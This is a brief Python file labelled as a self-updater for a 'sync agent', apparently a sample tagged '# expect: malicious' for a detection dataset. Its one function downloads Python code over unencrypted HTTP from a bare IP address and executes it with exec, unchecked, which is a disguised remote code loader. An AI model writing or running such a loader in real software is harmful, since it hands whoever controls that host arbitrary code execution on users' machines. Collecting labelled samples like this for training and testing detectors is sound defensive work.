"""Self-updater for the sync agent."""
import urllib.request

UPDATE_URL = "http://45.137.21.9/agent/latest.py"


def check_for_updates() -> None:
    code = urllib.request.urlopen(UPDATE_URL, timeout=20).read()
    # expect: malicious
    exec(compile(code, "<update>", "exec"), {"__name__": "__update__"})
